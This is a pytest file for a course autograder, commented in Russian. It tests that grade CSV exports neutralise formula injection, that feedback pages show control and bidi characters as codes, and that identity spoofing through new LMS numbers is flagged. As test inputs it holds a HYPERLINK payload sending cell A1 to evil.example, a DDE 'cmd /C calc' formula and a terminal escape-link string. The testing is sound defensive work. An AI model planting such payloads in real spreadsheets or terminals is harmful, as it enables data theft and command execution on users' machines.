"""Что autograde отдаёт наружу, когда имена, письма и сообщения слушателей враждебны — без песочницы.

CSV (оценки группы и ``export``) открывают в таблице и загружают в LMS: ни одна ячейка не должна
начинаться с символа формулы. Отзыв (HTML) показывает управляющие символы и смену направления
текста кодами. Номер участника LMS — часть личности: знакомое имя с новым номером не сливается
молча с чужой работой.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import autograde_class as ac
import nbformat
import pytest

HYPERLINK = '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example"&CHAR(47)&A1,"open")'
CALC = "=2+5+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, CALC, "@SUM(1+1)", "+7 (900) 000-00-00", "\tтаб", "-5", "\r=1+1", "-1"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def formulas(text: str) -> list[str]:
    return [cell for row in cells(text) for cell in row if cell.startswith(FORMULA)]


def test_spreadsheet_cell_neutralises_text_and_keeps_numbers():
    from autograde.store.results import spreadsheet_cell

    assert spreadsheet_cell(HYPERLINK) == "'" + HYPERLINK
    assert spreadsheet_cell("-5") == "'-5"  # похоже на число, но пришло текстом — от слушателя
    assert spreadsheet_cell("\tтаб") == "'\tтаб"
    assert spreadsheet_cell("\r=1+1") == "\\x0d=1+1"  # CR показан кодом — ячейка начинается не с него
    assert (spreadsheet_cell(-1), spreadsheet_cell(0.5), spreadsheet_cell(33), spreadsheet_cell(None)) == ("-1", "0.5",
                                                                                                           "33", "")
    assert spreadsheet_cell("Анна Смирнова") == "Анна Смирнова" and spreadsheet_cell("a=b") == "a=b"


def test_grades_csv_has_no_formula_cells(tmp_path):
    from autograde.lab.result import Result
    from autograde.store.results import write_csv

    results = [Result(f"id-{i}", name, "lab01_mini_rag", "k", "ok", name, 0.5 * i, 33) for i, name in enumerate(HOSTILE)]
    path = write_csv(tmp_path / "lab01_mini_rag.csv", results, {})
    text = path.read_text(encoding="utf-8")
    assert formulas(text) == []
    rows = {row["student_id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert set(rows) >= {"'" + HYPERLINK, "'" + CALC, "'@SUM(1+1)", "'\tтаб", "'-5"}
    assert rows["'-5"]["message"] == "'-5" and rows["'-5"]["score"] == "2.5"  # баллы — числом


@pytest.mark.parametrize("style", ["wide", "moodle", "canvas"])
def test_every_export_format_has_no_formula_cells(style):
    from autograde.commands.export import table

    people = {f"k{i}": {"id": name, "name": HOSTILE[-1 - i], "email": CALC if i % 2 else name}
              for i, name in enumerate(HOSTILE)}
    scores = {"k0": {"lab01_mini_rag": (0.5, True)}, "k5": {"lab01_mini_rag": (33.0, False)}}
    text = table(["lab01_mini_rag"], scores, people, style)
    assert formulas(text) == []
    flat = [cell for row in cells(text) for cell in row]
    assert "'" + CALC in flat and "'" + HYPERLINK in flat and "'-5" in flat
    assert "0.5" in flat and "33" in flat  # оценки — числа, без апострофа


def test_control_and_bidi_characters_reach_feedback_only_as_codes():
    """ESC и U+202E из сообщения исключения слушателя — в отзыве кодами; цвета трассировки остаются цветами."""
    from autograde.course import ROOT, Course
    from autograde.lab.master import build_master
    from autograde.lab.result import Result
    from autograde.render.feedback import render, visible
    from autograde.render.sanitize import notebook, shown

    course = Course.load(ROOT)
    master = build_master(course.lab(ac.LAB).source_notebook, ac.LAB, course.config)
    lab = ac.Lab()
    nb = lab.notebook()
    evil = "\x1b]8;;http://evil.example\x1b\\ссылка\x1b]8;;\x1b\\ \u202eтxт.exe \u2066x\u2069 \x07\x9b\u200f"
    cell = nb["cells"][lab.index(nb, "cosine")]
    cell["source"] = "# \u202e перевёрнутый комментарий\n" + cell["source"]
    cell["outputs"] = [
        {"output_type": "error", "ename": "ValueError", "evalue": evil,
         "traceback": ["\x1b[0;31mValueError\x1b[0m: " + evil]},
        {"output_type": "stream", "name": "stdout", "text": "печать " + evil + "\n"},
        {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": evil}}]
    nb["cells"].append({"cell_type": "markdown", "id": "evil-md", "metadata": {}, "source": "ответ " + evil})
    clean, _ = notebook(nbformat.reads(ac.dumps(nb), as_version=4), lambda c: False)
    clean = visible(clean, master)
    result = Result("x", "x\u202e", ac.LAB, "k", "error", "исключение: " + evil, 0, 33,
                    cells=[{"grade_id": "cosine_visible", "kind": "test", "score": 0, "max_score": 1,
                            "message": "ValueError: " + evil}])
    page = render(clean, master, student_id="x\u202e", result=result)
    for char in ("\x1b", "\u202e", "\u2066", "\u2069", "\x07", "\x9b", "\u200f"):
        assert char not in page, repr(char)
    assert "\\u202eтxт.exe" in page and "\\x1b]8;;http://evil.example" in page
    assert shown("\x1b[0;31mValueError\x1b[0m\u202e") == "\x1b[0;31mValueError\x1b[0m\\u202e"
    assert shown("строка\r\nи\tтаб") == "строка\r\nи\tтаб"


def _moodle_zip(path: Path, entries: dict[str, tuple[bytes, tuple]], lab: str) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for folder, (data, when) in entries.items():
            z.writestr(zipfile.ZipInfo(f"{folder}_assignsubmission_file_/{lab}.ipynb", date_time=when), data)
    return path


def test_a_known_name_with_a_new_lms_number_is_flagged_until_roster_merge(tmp_path):
    """Захват личности: «petrov_555» не заменяет работу petrov, сданную под номером 123, пока преподаватель
    не подтвердит их одним человеком (``roster merge``)."""
    from autograde.course import Course
    from autograde.intake import roster
    from autograde.intake.history import History
    from autograde.intake.submissions import admit

    course_dir = ac.course_copy(tmp_path / "course")
    course = Course.load(course_dir)
    lab = course.lab(ac.LAB)
    group = roster.load(course)
    group.students = [{"id": "petrov", "name": "Пётр Петров", "email": "p@example.org", "aliases": []},
                      {"id": "ivanova", "name": "", "email": "", "aliases": []}]
    group.save()
    work = ac.Lab()
    full, empty = ac.dumps(work.notebook()), ac.dumps(work.notebook({}))
    first = _moodle_zip(tmp_path / "first.zip", {"petrov_123": (full, (2024, 5, 1, 10, 0, 0)),
                                                 "ivanova_7": (full, (2024, 5, 1, 10, 0, 0))}, ac.LAB)
    names, _, _, notes = admit(course, lab, first, group)
    assert names == {"petrov": "Пётр Петров", "ivanova": "ivanova"} and notes == {}
    history = History(lab.history)
    victim = history.newest("petrov")

    later = _moodle_zip(tmp_path / "later.zip", {"petrov_555": (empty, (2024, 5, 2, 10, 0, 0)),
                                                 "petrov_123": (full, (2024, 5, 1, 10, 0, 0))}, ac.LAB)
    names, _, _, notes = admit(course, lab, later, group)
    assert history.newest("petrov") == victim and len(history.versions("petrov")) == 1  # работа petrov не тронута
    assert names["petrov_555"] == "petrov_555" and history.newest("petrov_555").raw_id == "petrov_555"
    [note] = notes["petrov_555"]
    assert "с номером участника LMS 555" in note and "под номером 123" in note
    assert "python -m autograde roster merge petrov_555 petrov" in note
    from autograde.render.feedback import for_student

    assert for_student(f"не сдано; {note}") == "не сдано"  # номер petrov — для преподавателя, не в отзыв

    roster.merge(course, group, "petrov_555", "petrov")
    assert history.keys() == ["ivanova", "petrov"] and history.newest("petrov").raw_id == "petrov_555"
    names, _, _, notes = admit(course, lab, later, roster.load(course))  # тот же архив ещё раз: теперь свой
    assert names == {"petrov": "Пётр Петров"} and not any("roster merge" in n for n in notes["petrov"])


def test_two_new_numbers_for_one_known_name_in_one_upload_are_both_flagged(tmp_path):
    """Когда номера ещё не записаны, чья работа настоящая — не угадать: ни одна не сливается молча."""
    from autograde.course import Course
    from autograde.intake import roster
    from autograde.intake.history import History
    from autograde.intake.submissions import admit

    course = Course.load(ac.course_copy(tmp_path / "course"))
    lab = course.lab(ac.LAB)
    group = roster.load(course)
    group.students = [{"id": "petrov", "name": "", "email": "", "aliases": []}]
    group.save()
    full = ac.dumps(ac.Lab().notebook())
    upload = _moodle_zip(tmp_path / "both.zip", {"petrov_100": (full, (2024, 5, 1, 10, 0, 0)),
                                                 "petrov_555": (full, (2024, 5, 1, 11, 0, 0))}, ac.LAB)
    names, _, _, notes = admit(course, lab, upload, group)
    assert set(names) == {"petrov_100", "petrov_555"} and History(lab.history).keys() == ["petrov_100", "petrov_555"]
    assert all("roster merge" in notes[key][0] for key in names)
    assert json.loads(group.path.read_text(encoding="utf-8"))["students"][0]["aliases"] == []


def test_files_given_with_the_lab_are_not_remarked_on_but_others_are(tmp_path):
    """Данные задания лежат рядом с ноутбуком у каждого слушателя: замечание «лишние файлы» —
    только о чужих файлах, иначе оно стоит в каждой строке, даже у работы на все баллы."""
    from autograde.intake.submissions import collect

    folder = tmp_path / "petrov" / "lab05_bm25_hybrid"
    folder.mkdir(parents=True)
    (folder / "lab05_bm25_hybrid.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    for name in ("lab05_data.json", "scratch.py"):
        (folder / name).write_text("x = 1\n")
    (sub,), _ = collect(tmp_path, "lab05_bm25_hybrid", given=frozenset({"lab05_data.json"}))
    assert sub.notes == ["лишние файлы не проверяются: scratch.py"]


def test_the_course_is_the_nearest_folder_with_nbgrader_config_like_nbgrader_reads_it(tmp_path):
    """``python -m autograde`` без --course берёт курс, в котором запущен (как nbgrader), а check — курс ноутбука."""
    from autograde.course import CHECKOUT, find_course

    course = tmp_path / "course"
    (course / "labs" / "lab01_mini_rag").mkdir(parents=True)
    (course / "nbgrader_config.py").write_text("c = get_config()\n", encoding="utf-8")
    assert find_course(course / "labs" / "lab01_mini_rag") == course.resolve()
    assert find_course(tmp_path) is None  # вне курса — нет курса, а не чужой
    assert CHECKOUT is not None and (CHECKOUT / "solutions").is_dir()  # пакет установлен из этого клона
